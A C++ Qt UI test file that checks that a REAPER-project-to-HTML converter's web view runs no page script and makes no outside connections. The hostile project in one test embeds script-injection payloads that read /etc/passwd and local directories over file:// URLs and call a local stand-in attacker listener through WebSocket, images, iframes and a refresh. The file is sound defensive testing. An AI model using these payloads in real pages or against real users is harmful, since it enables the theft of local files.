// A project that someone else wrote, converted and shown in the real view:
// its script never runs and nothing it names leaves the computer. A local
// listener stands for the attacker's server; a plain view without the
// program's guards shows that the same page does reach it.
#include <QDesktopServices>
#include <QElapsedTimer>
#include <QImage>
#include <QTcpServer>
#include <QWebEngineProfile>
#include <QWebEngineScript>
#include <QWebEngineView>

#include "ui_harness.h"

using namespace sondrel;
using namespace sondrel::testing;

namespace {
constexpr int PageTimeout = 30000;

// Everything a page could use to call out: script, an onerror handler,
// WebSocket, XHR and fetch of local files, images, style sheets, frames and
// a refresh, each aimed at the listener.
QByteArray HostileProject(quint16 port)
{
    const QByteArray target = "127.0.0.1:" + QByteArray::number(port);
    return "<REAPER_PROJECT 0.1 \"7.0/linux64\" 1700000000\n"
           "  <NOTES 0 2\n"
           "    |<script>document.title='SCRIPT RAN';"
           "new WebSocket('ws://" + target + "/notes');"
           "var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',false);x.send();"
           "fetch('file:///etc/').then(r=>r.text()).then(t=>new WebSocket('ws://" + target + "/'+t.length));"
           "</script>\n"
           "    |<img src=\"http://" + target + "/pixel.png\"><link rel=stylesheet href=\"http://" + target + "/s.css\">\n"
           "    |<iframe src=\"http://" + target + "/frame\"></iframe>"
           "<meta http-equiv=\"refresh\" content=\"0;url=http://" + target + "/refresh\">\n"
           "  >\n"
           "  <TRACK\n"
           "    NAME \"<img src=x onerror='document.title=`ONERROR RAN`;new WebSocket(`ws://" + target + "/name`)'>\"\n"
           "  >\n"
           ">\n";
}

const QByteArray RawTemplate =
    "<html><head><title>Hostile</title></head><body>##NOTES##"
    "<!-- TRACK-START --><p>##TRACK-NAME##</p><!-- TRACK-END --></body></html>";

// Stands for the system's browser: remembers what it was asked to open.
class UrlCatcher : public QObject {
    Q_OBJECT
public:
    QList<QUrl> opened;
public slots:
    void Open(const QUrl& url) { opened.append(url); }
};

}  // namespace

class DocumentSafetyTest : public QObject {
    Q_OBJECT

private slots:
    void aHostileProjectRunsNothingAndReachesNothing()
    {
        QTcpServer listener;
        QVERIFY(listener.listen(QHostAddress::LocalHost));
        int connections = 0;
        connect(&listener, &QTcpServer::newConnection, this, [&] {
            ++connections;
            while (QTcpSocket* socket = listener.nextPendingConnection())
                socket->close();
        });
        UiHarness ui;
        frmMain& window = ui.StartMain();
        const QString project = ui.WriteScratchFile("hostile.rpp", HostileProject(listener.serverPort()));
        const QString templ = ui.WriteScratchFile("raw.htm", RawTemplate);
        const QString output = ui.ScratchPath("hostile.htm");
        ui.ConvertThroughDialog(project, output, templ);
        QVERIFY(ui.messages.messages.empty());
        QTRY_COMPARE_WITH_TIMEOUT(window.Browser()->url(), QUrl::fromLocalFile(output), PageTimeout);
        QTRY_COMPARE_WITH_TIMEOUT(window.Browser()->title(), QStringLiteral("Hostile"), PageTimeout);
        QTest::qWait(2000);
        QCOMPARE(connections, 0);
        QCOMPARE(window.Browser()->title(), QStringLiteral("Hostile"));
        QCOMPARE(window.Browser()->url(), QUrl::fromLocalFile(output));

        // The same page in a view without the guards does call out.
        QWebEngineProfile plainProfile;
        QWebEngineView plain;
        plain.setPage(new QWebEnginePage(&plainProfile, &plain));
        plain.load(QUrl::fromLocalFile(output));
        QTRY_VERIFY_WITH_TIMEOUT(connections > 0, PageTimeout);
        QTRY_VERIFY_WITH_TIMEOUT(plain.title().endsWith(QStringLiteral(" RAN")), PageTimeout);
    }

    void aDocumentIsShownAsHtmlWhateverItsName()
    {
        UiHarness ui;
        frmMain& window = ui.StartMain();
        const QString project = ui.WriteScratchFile(
            "song.rpp", "<REAPER_PROJECT 0.1\n  <TRACK\n    NAME \"<HELLO world >\"\n  >\n>\n");
        const QString templ = ui.WriteScratchFile(
            "t.htm", "<!-- SONDREL: ESCAPE-HTML --><html><head><title>Named plainly</title></head>"
                     "<body><!-- TRACK-START --><b>##TRACK-NAME##</b><!-- TRACK-END --></body></html>");
        const QString output = ui.ScratchPath("document");
        ui.ConvertThroughDialog(project, output, templ);
        QTRY_COMPARE_WITH_TIMEOUT(window.Browser()->title(), QStringLiteral("Named plainly"), PageTimeout);
        QTRY_COMPARE_WITH_TIMEOUT(PageText(*window.Browser()).trimmed(), QStringLiteral("<HELLO world >"), PageTimeout);
    }

    // A logo beside the template is a file the page itself names: shown.
    void aLocalImageThePageNamesIsShown()
    {
        UiHarness ui;
        frmMain& window = ui.StartMain();
        QImage logo(7, 5, QImage::Format_RGB32);
        logo.fill(Qt::red);
        QVERIFY(logo.save(ui.ScratchPath("logo.png")));
        const QString page = ui.WriteScratchFile("logo.htm", "<html><body><img src=\"logo.png\"></body></html>");
        window.ShowInBrowser(page.toStdString());
        QTRY_COMPARE_WITH_TIMEOUT(ImageWidth(*window.Browser()), 7, PageTimeout);
    }

    // A click on a link to a web page hands it to the system's browser and
    // leaves the document in the view; a link within the page still moves.
    void linksLeaveTheViewOnTheDocument()
    {
        UrlCatcher browser;
        QDesktopServices::setUrlHandler(QStringLiteral("http"), &browser, "Open");
        UiHarness ui;
        frmMain& window = ui.StartMain();
        const QString page = ui.WriteScratchFile(
            "links.htm", "<html><body style='margin:0'>"
                         "<a href='#end' style='display:block;height:40px'>within</a>"
                         "<a href='http://127.0.0.1:9/elsewhere' style='display:block;height:40px'>away</a>"
                         "<div style='height:3000px'></div><p id='end'>end</p></body></html>");
        window.ShowInBrowser(page.toStdString());
        QTRY_VERIFY_WITH_TIMEOUT(PageText(*window.Browser()).contains(QStringLiteral("away")), PageTimeout);
        QWidget* surface = window.Browser()->focusProxy();
        QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(10, 60));
        QTRY_COMPARE_WITH_TIMEOUT(browser.opened, QList<QUrl>{QUrl(QStringLiteral("http://127.0.0.1:9/elsewhere"))},
                                  PageTimeout);
        QCOMPARE(window.Browser()->url(), QUrl::fromLocalFile(page));
        QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(10, 20));
        QTRY_COMPARE_WITH_TIMEOUT(window.Browser()->url().fragment(), QStringLiteral("end"), PageTimeout);
        QDesktopServices::unsetUrlHandler(QStringLiteral("http"));
    }

private:
    // The width the first image of the page was drawn with, read by a script
    // of the program's own (the page's own scripts never run).
    static int ImageWidth(QWebEngineView& view)
    {
        int width = -1;
        bool arrived = false;
        view.page()->runJavaScript(QStringLiteral("document.images.length ? document.images[0].naturalWidth : -1"),
                                   QWebEngineScript::ApplicationWorld, [&](const QVariant& value) {
                                       width = value.toInt();
                                       arrived = true;
                                   });
        QElapsedTimer waited;
        waited.start();
        while (!arrived && waited.elapsed() < 10000)
            QTest::qWait(20);
        return width;
    }
};

SONDREL_UI_TEST_MAIN(DocumentSafetyTest)
#include "document_safety_test.moc"
